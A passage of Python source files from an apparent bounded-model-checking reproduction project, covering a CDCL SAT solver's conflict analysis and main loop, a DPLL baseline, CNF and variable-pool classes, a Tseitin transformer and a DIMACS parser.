            if conflict is not None:
                self._propagate_head = len(self._trail)
                return conflict
        return None

    # -- conflict analysis (first UIP) ------------------------------------

    def _bump_var(self, var: int) -> None:
        self._activity[var] += self._var_inc
        if self._activity[var] > 1e100:
            for v in range(1, self._num_vars + 1):
                self._activity[v] *= 1e-100
            self._var_inc *= 1e-100
        heappush(self._order_heap, (-self._activity[var], var))

    def _decay_var_activity(self) -> None:
        self._var_inc /= self._var_decay

    def _bump_clause(self, clause: _Clause) -> None:
        clause.activity += self._cla_inc
        if clause.activity > 1e20:
            for c in self._learned:
                c.activity *= 1e-20
            self._cla_inc *= 1e-20

    def _analyze(self, conflict: _Clause) -> tuple[list[int], int]:
        """First-UIP analysis: returns (learned clause literals, backjump level)."""
        learned: list[int] = [0]  # slot 0 reserved for the asserting literal
        seen = self._seen
        touched: list[int] = []
        counter = 0
        lit = 0
        clause: _Clause | None = conflict
        index = len(self._trail)
        current_level = self._decision_level()

        while True:
            assert clause is not None
            if clause.learned:
                self._bump_clause(clause)
            start = 1 if lit != 0 else 0
            for q in clause.literals[start:]:
                var = abs(q)
                if not seen[var] and self._level[var] > 0:
                    seen[var] = True
                    touched.append(var)
                    self._bump_var(var)
                    if self._level[var] == current_level:
                        counter += 1
                    else:
                        learned.append(q)
            # pick next literal to resolve on: last assigned seen literal
            while True:
                index -= 1
                lit = self._trail[index]
                if seen[abs(lit)]:
                    break
            counter -= 1
            seen[abs(lit)] = False
            if counter == 0:
                break
            clause = self._reason[abs(lit)]
        learned[0] = -lit
        for var in touched:
            seen[var] = False

        # Conflict-clause minimization: drop literals implied by the rest.
        marked = set(abs(x) for x in learned)
        minimized = [learned[0]]
        for q in learned[1:]:
            reason = self._reason[abs(q)]
            if reason is None:
                minimized.append(q)
                continue
            if all(
                abs(r) in marked or self._level[abs(r)] == 0
                for r in reason.literals
                if abs(r) != abs(q)
            ):
                continue  # redundant
            minimized.append(q)
        learned = minimized

        if len(learned) == 1:
            return learned, 0
        # Backjump level = max level among the non-asserting literals.
        max_i = 1
        for i in range(2, len(learned)):
            if self._level[abs(learned[i])] > self._level[abs(learned[max_i])]:
                max_i = i
        learned[1], learned[max_i] = learned[max_i], learned[1]
        return learned, self._level[abs(learned[1])]

    def _clause_lbd(self, literals: list[int]) -> int:
        """Literal Block Distance of a freshly learned clause: the number
        of distinct decision levels among its literals (computed before
        backjumping unassigns the asserting literal's level)."""
        return len({self._level[abs(lit)] for lit in literals})

    def _record_learned(self, literals: list[int], lbd: int = 0) -> bool:
        """Install a learned clause; False if the asserting literal clashes
        with an assumption (formula UNSAT under the assumptions)."""
        if len(literals) == 1:
            return self._enqueue(literals[0], None)
        clause = _Clause(literals, learned=True, lbd=lbd)
        self._learned.append(clause)
        self._watch(clause)
        self._bump_clause(clause)
        self.stats.learned_clauses += 1
        return self._enqueue(literals[0], clause)

    def _reduce_learned(self) -> None:
        """Drop roughly half of the learned clauses, worst first.

        Ranking is LBD-aware (glucose-style): clauses are ordered by
        (high LBD, low activity) and the worst half is considered for
        deletion; glue clauses (LBD <= 2), binary clauses, and clauses
        currently locked as propagation reasons always survive.
        """
        self._learned.sort(key=lambda c: (-c.lbd, c.activity))
        keep_from = len(self._learned) // 2
        dropped = self._learned[:keep_from]
        locked = {id(self._reason[abs(lit)]) for lit in self._trail if self._reason[abs(lit)] is not None}
        survivors = []
        for clause in dropped:
            if (
                id(clause) in locked
                or len(clause.literals) <= 2
                or clause.lbd <= _GLUE_LBD
            ):
                survivors.append(clause)
                continue
            for lit in clause.literals[:2]:
                watchers = self._watches.get(lit)
                if watchers is not None and clause in watchers:
                    watchers.remove(clause)
            self.stats.deleted_clauses += 1
            self.stats.lbd_deletions += 1
        self._learned = survivors + self._learned[keep_from:]

    # -- decision heuristic ------------------------------------------------

    def _pick_branch_var(self) -> int:
        if not self._incremental:
            best = 0
            best_act = -1.0
            for var in range(1, self._num_vars + 1):
                if self._assign[var] == _UNASSIGNED and self._activity[var] > best_act:
                    best = var
                    best_act = self._activity[var]
            return best
        # Lazy-deletion heap: entries for assigned vars are discarded,
        # entries whose recorded activity went stale (bump since push, or
        # a rescale) are refreshed and re-pushed.  Because every bump
        # pushes a fresh entry, a variable's priority is never
        # under-represented, so the first exact entry that surfaces is the
        # true (max activity, lowest index) choice — identical to the
        # linear scan's tie-breaking.
        heap = self._order_heap
        assign = self._assign
        activity = self._activity
        while heap:
            neg_act, var = heap[0]
            if assign[var] != _UNASSIGNED:
                heappop(heap)
            elif -neg_act != activity[var]:
                heappop(heap)
                heappush(heap, (-activity[var], var))
            else:
                return var
        return 0

    # -- main loop ----------------------------------------------------------

    def solve(
        self,
        assumptions: Iterable[int] = (),
        conflict_budget: int | None = None,
    ) -> SolveResult:
        """Solve the current clause set, optionally under unit assumptions.

        Assumptions are enqueued as pseudo-decisions below all real
        decisions; an UNSAT answer under assumptions means the clause set
        together with the assumptions is unsatisfiable (the clause set
        alone may still be satisfiable).

        In incremental mode, consecutive calls sharing an assumption
        prefix keep that part of the trail (and everything propagated or
        decided above it when the assumption sets are identical) instead
        of re-propagating from scratch; a SAT answer also leaves the
        satisfying trail in place so the next call — typically after a
        blocking clause lands — resumes the enumeration mid-search.
        """
        self.stats = SolverStats()
        # Credit this call with the add-time preprocessing and clause
        # imports done since the previous solve (the per-call stats reset
        # must not lose them).
        self.stats.preprocessed_clauses = self._pending_preprocessed
        self.stats.learned_imported = self._pending_imported
        self._pending_preprocessed = 0
        self._pending_imported = 0
        if self._root_conflict:
            return SolveResult(satisfiable=False, stats=self.stats)

        wanted = [int(lit) for lit in assumptions]
        for lit in wanted:
            self._ensure_var(abs(lit))

        if self._incremental:
            # Keep the longest trail prefix whose assumption levels match.
            k = 0
            installed = self._assumptions
            while k < len(wanted) and k < len(installed) and installed[k] == wanted[k]:
                k += 1
            if k < len(installed) or len(wanted) > k:
                # Either a mismatched assumption must be undone, or new
                # assumption levels must be pushed above level k: rewind
                # exactly to the shared prefix.
                self._backtrack(k)
            if k:
                self.stats.assumption_prefix_reused += 1
            if (
                self._dead_sweep_pending
                and self._decision_level() == 0
                and len(self._trail) >= max(64, 2 * self._swept_trail_len)
            ):
                self._sweep_root_satisfied()
        else:
            self._backtrack(0)
            conflict = self._propagate()
            if conflict is not None:
                self._root_conflict = True
                return SolveResult(satisfiable=False, stats=self.stats)
            k = 0

        num_assumptions = len(wanted)
        for lit in wanted[k:]:
            conflict = self._propagate()
            if conflict is not None:
                # Conflict while every decision level is an assumption
                # level: UNSAT under the assumption set (root-UNSAT when
                # there are no assumption levels yet).
                if self._decision_level() == 0:
                    self._root_conflict = True
                self._backtrack(0)
                return SolveResult(satisfiable=False, stats=self.stats)
            self._trail_lim.append(len(self._trail))
            if self._incremental:
                self._assumptions.append(lit)
            if not self._enqueue(lit, None):
                self._backtrack(0)
                return SolveResult(satisfiable=False, stats=self.stats)

        restart_limit = (
            self._restart_first * _luby(1)
            if self._restart_strategy == "luby"
            else self._restart_first
        )
        restart_count = 0
        conflicts_since_restart = 0
        learned_limit = max(
            int(self._learned_limit_factor * max(len(self._clauses), 1)), 100
        )

        while True:
            conflict = self._propagate()
            if conflict is not None:
                self.stats.conflicts += 1
                conflicts_since_restart += 1
                if self._decision_level() <= num_assumptions:
                    self._backtrack(0)
                    if num_assumptions == 0:
                        self._root_conflict = True
                    return SolveResult(satisfiable=False, stats=self.stats)
                learned, back_level = self._analyze(conflict)
                lbd = self._clause_lbd(learned)
                self._backtrack(max(back_level, num_assumptions))
                if not self._record_learned(learned, lbd=lbd):
                    self._backtrack(0)
                    if num_assumptions == 0:
                        self._root_conflict = True
                    return SolveResult(satisfiable=False, stats=self.stats)
                self._decay_var_activity()
                self._cla_inc /= self._cla_decay
                if conflict_budget is not None and self.stats.conflicts >= conflict_budget:
                    if not self._incremental:
                        self._backtrack(0)
                    return SolveResult(satisfiable=None, stats=self.stats)
                if conflicts_since_restart >= restart_limit:
                    self.stats.restarts += 1
                    restart_count += 1
                    conflicts_since_restart = 0
                    if self._restart_strategy == "luby":
                        restart_limit = self._restart_first * _luby(restart_count + 1)
                    else:
                        restart_limit = int(restart_limit * self._restart_factor)
                    self._backtrack(num_assumptions)
                if len(self._learned) > learned_limit:
                    self._reduce_learned()
                    learned_limit = int(learned_limit * 1.1)
                continue

            var = self._pick_branch_var()
            if var == 0:
                model = {
                    v: self._assign[v] == _TRUE for v in range(1, self._num_vars + 1)
                }
                if not self._incremental:
                    self._backtrack(0)
                return SolveResult(satisfiable=True, model=model, stats=self.stats)
            self.stats.decisions += 1
            self._trail_lim.append(len(self._trail))
            self.stats.max_decision_level = max(
                self.stats.max_decision_level, self._decision_level()
            )
            # Phase heuristic: saved phase when enabled (re-explores the
            # neighbourhood of the last assignment after restarts),
            # otherwise False-first (works well on BMC encodings where
            # most guard variables are off in any given path).
            phase = self._saved_phase[var] if self._phase_saving else False
            self._enqueue(var if phase else -var, None)


def _luby(i: int) -> int:
    """The i-th element (1-based) of the Luby restart sequence
    1,1,2,1,1,2,4,1,1,2,1,1,2,4,8,... [Luby, Sinclair, Zuckerman 1993]."""
    while True:
        k = 1
        while (1 << k) - 1 < i:
            k += 1
        if (1 << k) - 1 == i:
            return 1 << (k - 1)
        i = i - (1 << (k - 1)) + 1


def solve_cnf(formula: CNF, assumptions: Iterable[int] = ()) -> SolveResult:
    """One-shot convenience wrapper used widely in tests."""
    return CDCLSolver(formula).solve(assumptions=assumptions)
