"""SAT solving substrate: CNF, DIMACS, Tseitin transform, CDCL and DPLL solvers.

The CDCL solver is this reproduction's substitute for ZChaff [19] (see
DESIGN.md §5); the DPLL solver is the ablation baseline.
"""

from repro.sat.cache import SAT_CACHE_VERSION, CachingSatSolver, SatQueryCache
from repro.sat.cnf import CNF, Clause, VariablePool, lit_to_str
from repro.sat.dimacs import DimacsError, parse_dimacs, write_dimacs
from repro.sat.dpll import DPLLSolver, IncrementalDPLL
from repro.sat.solver import (
    CDCLSolver,
    SolveResult,
    SolverStats,
    accumulate_stats,
    solve_cnf,
)
from repro.sat.tseitin import (
    FALSE,
    TRUE,
    And,
    Const,
    Expr,
    Iff,
    Implies,
    Ite,
    Not,
    Or,
    Var,
    add_expr_to_cnf,
    conj,
    disj,
    evaluate,
    iff,
    ite,
    to_cnf,
)

__all__ = [
    "SAT_CACHE_VERSION",
    "CachingSatSolver",
    "SatQueryCache",
    "accumulate_stats",
    "CNF",
    "Clause",
    "VariablePool",
    "lit_to_str",
    "DimacsError",
    "parse_dimacs",
    "write_dimacs",
    "DPLLSolver",
    "IncrementalDPLL",
    "CDCLSolver",
    "SolveResult",
    "SolverStats",
    "solve_cnf",
    "FALSE",
    "TRUE",
    "And",
    "Const",
    "Expr",
    "Iff",
    "Implies",
    "Ite",
    "Not",
    "Or",
    "Var",
    "add_expr_to_cnf",
    "conj",
    "disj",
    "evaluate",
    "iff",
    "ite",
    "to_cnf",
]
