"""CNF formula representation shared by the SAT solvers and the BMC encoder.

Literals follow the DIMACS convention: variables are positive integers
``1..n`` and a literal is a non-zero integer whose sign selects polarity
(``v`` for the positive literal, ``-v`` for the negated one).  This keeps
the solver hot loops allocation-free and makes DIMACS round-tripping
trivial.

:class:`VariablePool` hands out fresh variables and remembers an optional
human-readable name per variable — the BMC encoder uses names such as
``t_tmp^1`` or ``b_Nick`` so counterexample models can be mapped back to
program entities.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Sequence

__all__ = ["Clause", "CNF", "VariablePool", "lit_to_str"]


Clause = tuple[int, ...]


def _normalize_clause(literals: Iterable[int]) -> Clause | None:
    """Deduplicate a clause; return None for tautologies (x ∨ ¬x)."""
    seen: set[int] = set()
    out: list[int] = []
    for lit in literals:
        if lit == 0:
            raise ValueError("0 is not a valid literal")
        if -lit in seen:
            return None
        if lit not in seen:
            seen.add(lit)
            out.append(lit)
    return tuple(out)


class VariablePool:
    """Allocates fresh SAT variables, optionally tagged with names.

    Names are bidirectionally indexed: the encoder asks for "the variable
    named ``t_x^2``" and gets the same integer back on every request, and
    the trace reconstructor maps model integers back to names.
    """

    def __init__(self) -> None:
        self._next = 1
        self._name_to_var: dict[str, int] = {}
        self._var_to_name: dict[int, str] = {}

    def fresh(self, name: str | None = None) -> int:
        var = self._next
        self._next += 1
        if name is not None:
            if name in self._name_to_var:
                raise ValueError(f"variable name {name!r} already allocated")
            self._name_to_var[name] = var
            self._var_to_name[var] = name
        return var

    def named(self, name: str) -> int:
        """Return the variable with this name, allocating it on first use."""
        var = self._name_to_var.get(name)
        if var is None:
            var = self.fresh(name)
        return var

    def has_name(self, name: str) -> bool:
        return name in self._name_to_var

    def name_of(self, var: int) -> str | None:
        return self._var_to_name.get(abs(var))

    def var_of(self, name: str) -> int:
        return self._name_to_var[name]

    @property
    def num_vars(self) -> int:
        return self._next - 1

    def names(self) -> dict[str, int]:
        return dict(self._name_to_var)


class CNF:
    """A conjunction of clauses over integer literals.

    Tautological clauses are silently dropped at insertion and duplicate
    literals within a clause are removed, so the solver never has to
    handle them.  An empty clause may be added; it makes the formula
    trivially unsatisfiable and :attr:`has_empty_clause` reports it.
    """

    def __init__(self, clauses: Iterable[Iterable[int]] = (), num_vars: int = 0) -> None:
        self._clauses: list[Clause] = []
        self._num_vars = num_vars
        self.has_empty_clause = False
        for clause in clauses:
            self.add_clause(clause)

    def add_clause(self, literals: Iterable[int]) -> None:
        clause = _normalize_clause(literals)
        if clause is None:
            return
        if not clause:
            self.has_empty_clause = True
        self._clauses.append(clause)
        for lit in clause:
            v = abs(lit)
            if v > self._num_vars:
                self._num_vars = v

    def add_clauses(self, clauses: Iterable[Iterable[int]]) -> None:
        for clause in clauses:
            self.add_clause(clause)

    def add_unit(self, literal: int) -> None:
        self.add_clause((literal,))

    def extend_vars(self, num_vars: int) -> None:
        """Declare that variables up to ``num_vars`` exist even if unused."""
        self._num_vars = max(self._num_vars, num_vars)

    @property
    def clauses(self) -> Sequence[Clause]:
        return self._clauses

    @property
    def num_vars(self) -> int:
        return self._num_vars

    @property
    def num_clauses(self) -> int:
        return len(self._clauses)

    def copy(self) -> "CNF":
        dup = CNF(num_vars=self._num_vars)
        dup._clauses = list(self._clauses)
        dup.has_empty_clause = self.has_empty_clause
        return dup

    def variables(self) -> set[int]:
        return {abs(lit) for clause in self._clauses for lit in clause}

    def evaluate(self, assignment: dict[int, bool]) -> bool:
        """Evaluate under a *total* assignment; raises KeyError if partial."""
        for clause in self._clauses:
            if not any(assignment[abs(lit)] == (lit > 0) for lit in clause):
                return False
        return True

    def is_satisfied_by(self, model: set[int]) -> bool:
        """Evaluate under a model given as a set of true literals."""
        assignment = {abs(lit): lit > 0 for lit in model}
        try:
            return self.evaluate(assignment)
        except KeyError:
            return False

    def __iter__(self) -> Iterator[Clause]:
        return iter(self._clauses)

    def __len__(self) -> int:
        return len(self._clauses)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"CNF(num_vars={self._num_vars}, num_clauses={len(self._clauses)})"


def lit_to_str(lit: int, pool: VariablePool | None = None) -> str:
    """Render a literal, using the pool's variable names when available."""
    name = pool.name_of(lit) if pool is not None else None
    base = name if name is not None else f"x{abs(lit)}"
    return base if lit > 0 else f"¬{base}"
