"""Plain DPLL solver — the ablation baseline for ABL-SAT.

The paper credits ZChaff's "many optimization techniques" for making BMC
practical; this module implements the 1962-vintage algorithm those
techniques improve on (recursive splitting with unit propagation and pure
literal elimination, no learning, no watched literals, no restarts) so the
benchmark suite can measure how much CDCL buys on BMC-shaped formulas.
"""

from __future__ import annotations

from collections.abc import Iterable

from repro.sat.cnf import CNF
from repro.sat.solver import SolveResult, SolverStats

__all__ = ["DPLLSolver", "IncrementalDPLL"]


class DPLLSolver:
    """Recursive DPLL with unit propagation and pure-literal elimination."""

    def __init__(self, formula: CNF, max_decisions: int | None = None) -> None:
        self._clauses = [list(clause) for clause in formula.clauses]
        self._num_vars = formula.num_vars
        self._max_decisions = max_decisions
        self.stats = SolverStats()

    def solve(self) -> SolveResult:
        self.stats = SolverStats()
        try:
            model = self._search(self._clauses, {})
        except _BudgetExceeded:
            return SolveResult(satisfiable=None, stats=self.stats)
        if model is None:
            return SolveResult(satisfiable=False, stats=self.stats)
        # Complete the model for variables eliminated along the way.
        for var in range(1, self._num_vars + 1):
            model.setdefault(var, False)
        return SolveResult(satisfiable=True, model=model, stats=self.stats)

    # -- internals --------------------------------------------------------

    def _search(
        self, clauses: list[list[int]], assignment: dict[int, bool]
    ) -> dict[int, bool] | None:
        clauses, assignment, ok = self._simplify(clauses, assignment)
        if not ok:
            self.stats.conflicts += 1
            return None
        if not clauses:
            return assignment
        if self._max_decisions is not None and self.stats.decisions >= self._max_decisions:
            raise _BudgetExceeded
        lit = self._choose_literal(clauses)
        self.stats.decisions += 1
        for value in (lit, -lit):
            branch = dict(assignment)
            branch[abs(value)] = value > 0
            result = self._search(self._assign(clauses, value), branch)
            if result is not None:
                return result
        return None

    def _simplify(
        self, clauses: list[list[int]], assignment: dict[int, bool]
    ) -> tuple[list[list[int]], dict[int, bool], bool]:
        assignment = dict(assignment)
        while True:
            # Unit propagation.
            unit = next((c[0] for c in clauses if len(c) == 1), None)
            if unit is not None:
                assignment[abs(unit)] = unit > 0
                self.stats.propagations += 1
                clauses = self._assign(clauses, unit)
                if any(len(c) == 0 for c in clauses):
                    return clauses, assignment, False
                continue
            # Pure literal elimination.
            polarity: dict[int, int] = {}
            for clause in clauses:
                for lit in clause:
                    var = abs(lit)
                    sign = 1 if lit > 0 else -1
                    polarity[var] = 0 if polarity.get(var, sign) != sign else sign
            pure = next((v * s for v, s in polarity.items() if s != 0), None)
            if pure is not None:
                assignment[abs(pure)] = pure > 0
                clauses = self._assign(clauses, pure)
                continue
            if any(len(c) == 0 for c in clauses):
                return clauses, assignment, False
            return clauses, assignment, True

    @staticmethod
    def _assign(clauses: list[list[int]], lit: int) -> list[list[int]]:
        out: list[list[int]] = []
        for clause in clauses:
            if lit in clause:
                continue
            if -lit in clause:
                out.append([x for x in clause if x != -lit])
            else:
                out.append(clause)
        return out

    @staticmethod
    def _choose_literal(clauses: list[list[int]]) -> int:
        # Most-occurrences-in-minimum-size-clauses (MOMS-lite): branch on a
        # literal from a shortest clause.
        shortest = min(clauses, key=len)
        return shortest[0]


class _BudgetExceeded(Exception):
    pass


class IncrementalDPLL:
    """Incremental facade over :class:`DPLLSolver` matching the subset of
    :class:`~repro.sat.solver.CDCLSolver`'s surface the BMC checker uses
    (``add_formula`` / ``add_clause`` / ``solve(assumptions)``).

    DPLL has no learned state worth keeping, so every ``solve`` call
    rebuilds from the accumulated clause set plus the assumptions as unit
    clauses.  This is exactly what makes it the honest ABL-SAT ablation
    baseline for the enumeration loop: the checker's blocking clauses
    accumulate here too, but nothing is remembered between calls.
    """

    def __init__(self) -> None:
        self._cnf = CNF()
        self.stats = SolverStats()

    def add_formula(self, formula: CNF) -> None:
        self._cnf.add_clauses(formula.clauses)
        self._cnf.extend_vars(formula.num_vars)

    def add_clause(self, literals: Iterable[int]) -> None:
        self._cnf.add_clause(tuple(literals))

    def solve(
        self,
        assumptions: Iterable[int] = (),
        conflict_budget: int | None = None,
    ) -> SolveResult:
        """DPLL has no conflict counter in the CDCL sense; a budget is
        honored as a cap on decisions, the closest analogue of bounded
        search effort (portfolio racing relies on this to time-slice the
        diversity baseline)."""
        cnf = self._cnf.copy()
        for lit in assumptions:
            cnf.add_unit(lit)
        result = DPLLSolver(cnf, max_decisions=conflict_budget).solve()
        self.stats = result.stats
        return result
