"""Boolean circuits and their Tseitin transformation to CNF.

The BMC encoder (paper Figure 5) builds constraints as boolean formulas
over guard variables and safety-type bit vectors — conjunctions,
implications, and if-then-else terms such as ``t_x^i = g ? t_e : t_x^{i-1}``.
This module gives the encoder a small structural formula language
(:class:`Expr` and friends) and :func:`to_cnf`, which converts any such
formula to an equisatisfiable CNF via the Tseitin transformation (one
fresh variable per internal gate, clauses per gate semantics).

Expressions are hash-consed-ish via ``__slots__`` dataclass-like nodes and
combine with Python operators: ``a & b``, ``a | b``, ``~a``,
``a >> b`` (implication), :func:`iff`, :func:`ite`.
"""

from __future__ import annotations

from collections.abc import Iterable

from repro.sat.cnf import CNF, VariablePool

__all__ = [
    "Expr",
    "Var",
    "Const",
    "Not",
    "And",
    "Or",
    "Implies",
    "Iff",
    "Ite",
    "TRUE",
    "FALSE",
    "conj",
    "disj",
    "iff",
    "ite",
    "to_cnf",
    "add_expr_to_cnf",
    "evaluate",
]


class Expr:
    """Base class for boolean formula nodes."""

    __slots__ = ()

    def __and__(self, other: "Expr") -> "Expr":
        return And((self, other))

    def __or__(self, other: "Expr") -> "Expr":
        return Or((self, other))

    def __invert__(self) -> "Expr":
        return Not(self)

    def __rshift__(self, other: "Expr") -> "Expr":
        return Implies(self, other)


class Var(Expr):
    """A named propositional variable."""

    __slots__ = ("name",)

    def __init__(self, name: str) -> None:
        self.name = name

    def __repr__(self) -> str:
        return self.name

    def __eq__(self, other: object) -> bool:
        return isinstance(other, Var) and other.name == self.name

    def __hash__(self) -> int:
        return hash(("Var", self.name))


class Const(Expr):
    __slots__ = ("value",)

    def __init__(self, value: bool) -> None:
        self.value = value

    def __repr__(self) -> str:
        return "⊤" if self.value else "⊥"

    def __eq__(self, other: object) -> bool:
        return isinstance(other, Const) and other.value == self.value

    def __hash__(self) -> int:
        return hash(("Const", self.value))


TRUE = Const(True)
FALSE = Const(False)


class Not(Expr):
    __slots__ = ("operand",)

    def __init__(self, operand: Expr) -> None:
        self.operand = operand

    def __repr__(self) -> str:
        return f"¬{self.operand!r}"


class And(Expr):
    __slots__ = ("operands",)

    def __init__(self, operands: Iterable[Expr]) -> None:
        self.operands = tuple(operands)

    def __repr__(self) -> str:
        if not self.operands:
            return "⊤"
        return "(" + " ∧ ".join(map(repr, self.operands)) + ")"


class Or(Expr):
    __slots__ = ("operands",)

    def __init__(self, operands: Iterable[Expr]) -> None:
        self.operands = tuple(operands)

    def __repr__(self) -> str:
        if not self.operands:
            return "⊥"
        return "(" + " ∨ ".join(map(repr, self.operands)) + ")"


class Implies(Expr):
    __slots__ = ("antecedent", "consequent")

    def __init__(self, antecedent: Expr, consequent: Expr) -> None:
        self.antecedent = antecedent
        self.consequent = consequent

    def __repr__(self) -> str:
        return f"({self.antecedent!r} ⇒ {self.consequent!r})"


class Iff(Expr):
    __slots__ = ("left", "right")

    def __init__(self, left: Expr, right: Expr) -> None:
        self.left = left
        self.right = right

    def __repr__(self) -> str:
        return f"({self.left!r} ⇔ {self.right!r})"


class Ite(Expr):
    """If-then-else term: ``cond ? then : orelse`` (paper Figure 5/6)."""

    __slots__ = ("cond", "then", "orelse")

    def __init__(self, cond: Expr, then: Expr, orelse: Expr) -> None:
        self.cond = cond
        self.then = then
        self.orelse = orelse

    def __repr__(self) -> str:
        return f"({self.cond!r} ? {self.then!r} : {self.orelse!r})"


def conj(exprs: Iterable[Expr]) -> Expr:
    """N-ary conjunction, flattening trivial cases."""
    items = [e for e in exprs if e is not TRUE]
    if any(e is FALSE for e in items):
        return FALSE
    if not items:
        return TRUE
    if len(items) == 1:
        return items[0]
    return And(items)


def disj(exprs: Iterable[Expr]) -> Expr:
    items = [e for e in exprs if e is not FALSE]
    if any(e is TRUE for e in items):
        return TRUE
    if not items:
        return FALSE
    if len(items) == 1:
        return items[0]
    return Or(items)


def iff(left: Expr, right: Expr) -> Expr:
    return Iff(left, right)


def ite(cond: Expr, then: Expr, orelse: Expr) -> Expr:
    return Ite(cond, then, orelse)


class _Tseitin:
    """Single-pass Tseitin transformer with structural caching."""

    def __init__(self, pool: VariablePool, cnf: CNF) -> None:
        self.pool = pool
        self.cnf = cnf
        self._cache: dict[int, int] = {}

    def literal(self, expr: Expr) -> int:
        """Return a literal equivalent to ``expr``, emitting gate clauses."""
        cached = self._cache.get(id(expr))
        if cached is not None:
            return cached
        lit = self._translate(expr)
        self._cache[id(expr)] = lit
        return lit

    def _translate(self, expr: Expr) -> int:
        if isinstance(expr, Var):
            return self.pool.named(expr.name)
        if isinstance(expr, Const):
            # Encode constants as a frozen fresh variable.
            name = "__const_true__" if expr.value else "__const_false__"
            if not self.pool.has_name(name):
                var = self.pool.named(name)
                self.cnf.add_unit(var if expr.value else -var)
            else:
                var = self.pool.var_of(name)
            return var
        if isinstance(expr, Not):
            return -self.literal(expr.operand)
        if isinstance(expr, And):
            lits = [self.literal(op) for op in expr.operands]
            gate = self.pool.fresh()
            for lit in lits:
                self.cnf.add_clause((-gate, lit))
            self.cnf.add_clause([gate] + [-lit for lit in lits])
            return gate
        if isinstance(expr, Or):
            lits = [self.literal(op) for op in expr.operands]
            gate = self.pool.fresh()
            for lit in lits:
                self.cnf.add_clause((gate, -lit))
            self.cnf.add_clause([-gate] + lits)
            return gate
        if isinstance(expr, Implies):
            a = self.literal(expr.antecedent)
            b = self.literal(expr.consequent)
            gate = self.pool.fresh()
            # gate <-> (¬a ∨ b)
            self.cnf.add_clause((-gate, -a, b))
            self.cnf.add_clause((gate, a))
            self.cnf.add_clause((gate, -b))
            return gate
        if isinstance(expr, Iff):
            a = self.literal(expr.left)
            b = self.literal(expr.right)
            gate = self.pool.fresh()
            self.cnf.add_clause((-gate, -a, b))
            self.cnf.add_clause((-gate, a, -b))
            self.cnf.add_clause((gate, a, b))
            self.cnf.add_clause((gate, -a, -b))
            return gate
        if isinstance(expr, Ite):
            c = self.literal(expr.cond)
            t = self.literal(expr.then)
            e = self.literal(expr.orelse)
            gate = self.pool.fresh()
            self.cnf.add_clause((-gate, -c, t))
            self.cnf.add_clause((-gate, c, e))
            self.cnf.add_clause((gate, -c, -t))
            self.cnf.add_clause((gate, c, -e))
            return gate
        raise TypeError(f"unknown expression node: {expr!r}")


def add_expr_to_cnf(expr: Expr, pool: VariablePool, cnf: CNF) -> None:
    """Assert ``expr`` (add clauses forcing it true) into an existing CNF."""
    transformer = _Tseitin(pool, cnf)
    cnf.add_unit(transformer.literal(expr))


def to_cnf(expr: Expr, pool: VariablePool | None = None) -> tuple[CNF, VariablePool]:
    """Tseitin-transform ``expr`` into a fresh equisatisfiable CNF."""
    pool = pool if pool is not None else VariablePool()
    cnf = CNF()
    add_expr_to_cnf(expr, pool, cnf)
    return cnf, pool


def evaluate(expr: Expr, env: dict[str, bool]) -> bool:
    """Evaluate a formula under a named assignment (used by tests)."""
    if isinstance(expr, Var):
        return env[expr.name]
    if isinstance(expr, Const):
        return expr.value
    if isinstance(expr, Not):
        return not evaluate(expr.operand, env)
    if isinstance(expr, And):
        return all(evaluate(op, env) for op in expr.operands)
    if isinstance(expr, Or):
        return any(evaluate(op, env) for op in expr.operands)
    if isinstance(expr, Implies):
        return (not evaluate(expr.antecedent, env)) or evaluate(expr.consequent, env)
    if isinstance(expr, Iff):
        return evaluate(expr.left, env) == evaluate(expr.right, env)
    if isinstance(expr, Ite):
        return evaluate(expr.then, env) if evaluate(expr.cond, env) else evaluate(expr.orelse, env)
    raise TypeError(f"unknown expression node: {expr!r}")


def free_variables(expr: Expr) -> set[str]:
    """Names of all variables occurring in the formula."""
    if isinstance(expr, Var):
        return {expr.name}
    if isinstance(expr, Const):
        return set()
    if isinstance(expr, Not):
        return free_variables(expr.operand)
    if isinstance(expr, (And, Or)):
        out: set[str] = set()
        for op in expr.operands:
            out |= free_variables(op)
        return out
    if isinstance(expr, Implies):
        return free_variables(expr.antecedent) | free_variables(expr.consequent)
    if isinstance(expr, Iff):
        return free_variables(expr.left) | free_variables(expr.right)
    if isinstance(expr, Ite):
        return free_variables(expr.cond) | free_variables(expr.then) | free_variables(expr.orelse)
    raise TypeError(f"unknown expression node: {expr!r}")
