"""DIMACS CNF reader/writer.

ZChaff consumes the DIMACS format; we keep the same interchange format so
formulas produced by the BMC encoder can be dumped, inspected, and re-run
against any external solver, and so standard benchmark instances
(pigeonhole, random 3-SAT) can round-trip through files in the ABL-SAT
benches.
"""

from __future__ import annotations

import io
from pathlib import Path

from repro.sat.cnf import CNF

__all__ = ["parse_dimacs", "write_dimacs", "DimacsError"]


class DimacsError(ValueError):
    """Raised on malformed DIMACS input."""


def parse_dimacs(text: str) -> CNF:
    """Parse DIMACS CNF text into a :class:`CNF`.

    Accepts the liberal dialect common in practice: comment lines anywhere,
    clauses spanning multiple lines, and a final clause missing its
    ``0`` terminator.
    """
    declared_vars: int | None = None
    declared_clauses: int | None = None
    cnf = CNF()
    current: list[int] = []

    for line_no, raw in enumerate(text.splitlines(), start=1):
        line = raw.strip()
        if not line or line.startswith("c") or line.startswith("%"):
            continue
        if line.startswith("p"):
            parts = line.split()
            if len(parts) != 4 or parts[1] != "cnf":
                raise DimacsError(f"line {line_no}: malformed problem line {line!r}")
            try:
                declared_vars = int(parts[2])
                declared_clauses = int(parts[3])
            except ValueError as exc:
                raise DimacsError(f"line {line_no}: non-numeric problem line") from exc
            continue
        for token in line.split():
            try:
                lit = int(token)
            except ValueError as exc:
                raise DimacsError(f"line {line_no}: bad literal {token!r}") from exc
            if lit == 0:
                cnf.add_clause(current)
                current = []
            else:
                if declared_vars is not None and abs(lit) > declared_vars:
                    raise DimacsError(
                        f"line {line_no}: literal {lit} exceeds declared {declared_vars} variables"
                    )
                current.append(lit)
    if current:
        cnf.add_clause(current)
    if declared_vars is not None:
        cnf.extend_vars(declared_vars)
    if declared_clauses is not None and cnf.num_clauses > declared_clauses:
        # Fewer clauses than declared is tolerated (tautologies are dropped);
        # more clauses than declared indicates a broken producer.
        raise DimacsError(
            f"{cnf.num_clauses} clauses found but only {declared_clauses} declared"
        )
    return cnf


def parse_dimacs_file(path: str | Path) -> CNF:
    return parse_dimacs(Path(path).read_text())


def write_dimacs(cnf: CNF, comment: str | None = None) -> str:
    """Serialize a CNF to DIMACS text."""
